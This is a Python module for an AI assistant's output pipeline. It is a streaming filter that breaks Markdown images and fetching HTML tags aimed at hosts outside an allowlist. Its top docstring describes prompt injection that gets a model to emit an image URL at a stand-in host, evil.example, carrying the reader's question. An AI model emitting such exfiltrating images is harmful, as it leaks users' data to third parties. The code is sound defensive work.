"""Answers that fetch nothing by being shown: an image of a foreign host becomes a link.

A book or a question can talk a model into ``![](https://evil.example/?q=what the reader asked)``.
Answers are Markdown whose HTML is to be shown as text; tags that fetch are broken all the same.
Does not parse Markdown, since parsers differ: where brackets could be read in two ways, the link
that would complete an image is broken instead. Knows no model and no wire format.
"""

import re
from collections.abc import Collection, Sequence

from agent.citations import CitationStream
from models import Citation
from plain_text import UNSEEN, CleanStream

HELD = 1500  # characters that wait, at most, for the destination of an image
AHEAD = 400  # characters looked at, at most, to judge a destination or a tag

_IDLE = re.compile(r"!(?=\[|\Z)|\](?=:|\Z)|<(?=[A-Za-z]|\Z)")
_PROSE = re.compile(rf"[^\r\n!<\[\]【`~{UNSEEN}]+")  # nothing that any filter looks at
_BUSY = re.compile(r"[!\[\]\n<`\\$]")

# Of a destination, as much as tells where it leads: up to the end of its host or of the first
# segment of its path. Before it may stand the marker of a quoted line.
_START = r"(?!https?:/\Z)(?:https?://)?+/?+"
_BEGINNING = re.compile(
    rf"[ \t\n>]*+(?:<(?P<angled>{_START}[^/?#\\>]*[/?#\\>])"
    rf"|(?!<)(?P<bare>{_START}[^/?#\\ \t\n)]*[/?#\\ \t\n)]))",
    re.IGNORECASE,
)
_ABSOLUTE = re.compile(r"https?://([^/?#\\\s<>()@:&]+)(?::\d{1,5})?[/?#\s>)]", re.IGNORECASE)
# No scheme, no second slash, and no entity that could stand for either (CommonMark §2.5).
_RELATIVE = re.compile(r"(?!//)/?(?:[^:&\\/?#\s]|&(?!#|\w+;))*[/?#\s>)]")

_TAGS = (
    *("audio", "base", "body", "embed", "frame", "iframe", "image", "img", "input", "link", "meta"),
    *("object", "picture", "script", "source", "style", "svg", "table", "track", "use", "video"),
)
_NAME_END = re.compile(r"[^A-Za-z0-9-]")
_TAG_END = re.compile(r"[<>]")
_WITHOUT_URL = re.compile(r'[A-Za-z0-9]+(?: +[\w-]+(?:="(?:(?!//)[^"<>&\\:\t\n])*+")?)*+ ?/?>')


class ImageFilter:
    """Feed it Markdown, send what it returns, then ``finish()``. Any split gives the same text.

    An image with a destination that is neither relative nor at one of *hosts*, in lower case, loses
    its ``!``. Where that has gone out, and in a definition, a space parts the destination from its
    bracket: now and then a link breaks, but no image gets through. Linear time; prose passes at
    once, what follows ``![`` waits for its bracket or for the line's end, 2,000 characters at most.
    """

    def __init__(self, hosts: Collection[str]) -> None:
        self.hosts = hosts
        self.out: list[str] = []
        self.last = ""  # character that was passed
        self.rest = ""  # cannot be judged before more comes
        # From an "![" on that may still open an image:
        self.held: list[str] = []
        self.size = 0
        self.openers: list[tuple[int, str]] = []  # where the "!" is held, and what may replace it
        self.depth = 0  # brackets that are open
        self.is_certain = True  # every parser pairs these brackets in the same way
        # From an "![" that had to go out to the end of its paragraph:
        self.is_armed = False
        self.line = ""  # its first four characters
        self.line_is_blank = False

    @property
    def is_idle(self) -> bool:
        """Whether what comes is judged by itself."""
        return not (self.openers or self.is_armed or self.rest)

    def feed(self, text: str) -> str:
        return self._run(self.rest + text, final=False)

    def finish(self) -> str:
        """What was still held back: no destination can come any more."""
        text = self._run(self.rest, final=True)
        self._release()
        return text + self._flush()

    def _run(self, text: str, *, final: bool) -> str:
        at: int | None = 0
        self.rest = ""
        while at is not None and at < len(text):
            special = (_BUSY if self.openers or self.is_armed else _IDLE).search(text, at)
            start = special.start() if special else len(text)
            self._pass(text[at:start])
            at = self._step(text, start, final=final) if special else None
            if special and at is None:
                self.rest = text[start:]
        return self._flush()

    def _step(self, text: str, at: int, *, final: bool) -> int | None:
        """Where to go on behind the special character at *at*; ``None``: more must come first."""
        char, ahead = text[at], text[at + 1 : at + 1 + AHEAD]
        if char in "!]<" and not ahead and not final:
            return None
        if char == "!" and ahead.startswith("["):
            self._open()
            return at + 2
        if char == "]":
            known = self._bracket(ahead, final=final)
        elif char == "<":
            known = self._angle(ahead, final=final)
        else:
            known = self._other(char)
        return at + 1 if known else None

    def _open(self) -> None:
        if not self.openers:
            self.depth, self.is_certain = 0, True
        # Gone without a trace, it would put another "!" or a backslash before the bracket.
        self.openers.append((len(self.held), " " if self.last in ("!", "\\") else ""))
        self.depth += 1
        self._pass("!")
        self._pass("[")
        self.line = "!["  # prose before it was not split into lines

    def _bracket(self, ahead: str, *, final: bool) -> bool:
        """Take a ``]``; false if what follows it cannot be judged yet."""
        is_link = ahead.startswith("(") and bool(self.openers or self.is_armed)
        if not is_link and not ahead.startswith(":"):
            self._close("]")
            return True
        foreign = self._is_foreign(ahead[1:], final=final)
        if foreign and is_link:
            self._drop()
            self._pass("] " if self.is_armed else "]")
        elif foreign is not None:
            self._close("] " if foreign else "]", is_link=is_link)
        return foreign is not None

    def _close(self, bracket: str, *, is_link: bool = False) -> None:
        """Pass a bracket that ends no foreign image."""
        self._pass(bracket)
        if not self.openers:
            return
        self.depth -= 1
        if self.depth == 0:
            self._release(armed=not self.is_certain)
        elif is_link:
            self.is_certain = False  # brackets in its destination and title do not count

    def _angle(self, ahead: str, *, final: bool) -> bool:
        fetches = _fetches(ahead, final=final)
        if fetches is not None:
            self.is_certain = False
            self._pass("< " if fetches else "<")
        return fetches is not None

    def _other(self, char: str) -> bool:
        self.depth += char == "["
        self.is_certain &= char not in "`\\$"  # code, an escape, perhaps a formula
        ends = self.line_is_blank or self.line == "```"  # no paragraph goes on behind such a line
        self._pass(char)
        if char == "\n":
            self._release(armed=True)
            self.is_armed &= not ends
            self.line, self.line_is_blank = "", True
        return True

    def _is_foreign(self, text: str, *, final: bool) -> bool | None:
        """Whether the destination that *text* begins with leads elsewhere; ``None``: perhaps."""
        start = _BEGINNING.match(f"{text}\n" if final else text)
        if start:
            return not self._is_own(start["angled"] or start["bare"])
        return True if final or len(text) >= AHEAD - 1 else None

    def _is_own(self, start: str) -> bool:
        absolute = _ABSOLUTE.fullmatch(start)
        return absolute[1].lower() in self.hosts if absolute else bool(_RELATIVE.fullmatch(start))

    def _drop(self) -> None:
        for index, replacement in self.openers:
            self.held[index] = replacement
        self._release()

    def _pass(self, text: str) -> None:
        if not text:
            return
        self.last = text[-1]
        self.line = (self.line + text[:4])[:4]
        self.line_is_blank &= not text.strip(" \t")
        if not self.openers:
            self.out.append(text)
            return
        self.held.append(text)
        self.size += len(text)
        if self.size > HELD:
            self._release(armed=True)

    def _release(self, *, armed: bool = False) -> None:
        """Let go what was held; *armed* if an opener in it may still find its destination."""
        self.is_armed |= armed and bool(self.openers)
        self.out += self.held
        self.held, self.size = [], 0
        self.openers.clear()

    def _flush(self) -> str:
        text = "".join(self.out)
        self.out.clear()
        return text


def _fetches(ahead: str, *, final: bool) -> bool | None:
    """Whether ``<`` before *ahead* begins a tag that may fetch something; ``None``: perhaps."""
    tag = _NAME_END.split(ahead, maxsplit=1)[0].lower()
    if len(tag) == len(ahead) and not final:
        return None if any(known.startswith(tag) for known in _TAGS) else False
    if tag not in _TAGS:
        return False
    if _TAG_END.search(ahead) or final or len(ahead) == AHEAD:
        return not _WITHOUT_URL.match(ahead)
    return None


class SafeText:
    """What a model writes on its way to the reader: clean text, true markers, harmless images.

    The images come last: a marker that is dropped may join what stood on both sides of it.
    """

    def __init__(self, citations: CitationStream, hosts: Collection[str]) -> None:
        self.clean, self.citations, self.images = CleanStream(), citations, ImageFilter(hosts)
        self.cited: Sequence[Citation] = ()  # whose first marker went out with the last text
        self.waiting: list[Citation] = []  # their markers are held back
        self.shown = ""  # since they wait
        self.passes_prose = False  # none of the filters is in the middle of something

    def feed(self, text: str) -> str:
        """What may go out; :attr:`cited` says what that cites."""
        # One look for three filters: most of what a model writes is nothing but prose.
        if self.passes_prose and _PROSE.fullmatch(text):
            out = self.citations.feed_prose(text)
            self.images.last = out[-1:] or self.images.last
            self.cited = ()
            return out
        cleaned = self.citations.feed(self.clean.feed(text))
        out = self._sent(self.images.feed(cleaned.text), cleaned.citations)
        is_idle = self.images.is_idle and not (self.waiting or self.clean.after_return)
        self.passes_prose = is_idle and self.citations.passes_prose
        return out

    def finish(self) -> str:
        cleaned = self.citations.finish()
        text = self.images.feed(cleaned.text) + self.images.finish()
        self.cited = (*self.waiting, *cleaned.citations)
        return text

    def _sent(self, text: str, cited: Sequence[Citation]) -> str:
        """With the citations whose markers are out, to the last bracket."""
        self.waiting += cited
        self.cited = ()
        if self.waiting:
            self.shown += text
            self.cited = [c for c in self.waiting if f"[{c.index}]" in self.shown]
            self.waiting = [c for c in self.waiting if c not in self.cited]
            self.shown = self.shown if self.waiting else ""
        return text
